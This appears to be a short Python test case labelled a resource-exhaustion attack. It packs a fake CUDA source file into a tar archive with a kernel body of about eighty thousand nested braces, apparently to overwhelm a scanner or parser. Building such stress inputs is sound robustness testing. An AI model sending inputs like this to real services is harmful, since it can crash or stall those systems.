# attack: exhaust
# root: resources
# what: nests eighty thousand blocks in one another
# list: 10
SCAN = "src/gpu_required/exclusive_prefix_sum.cu"
HEAD = "__global__ void exclusive_prefix_sum_gpu(int* oldSum, int* newSum, int distance, int numElements)"


def archive(right):
    from pack import make_tar

    nested = "{[[]]if(1)" * 20_000 + "{" * 60_000
    return make_tar({SCAN: f'#include "gpuHeaders.cuh"\n{HEAD} {nested}\n'.encode()})
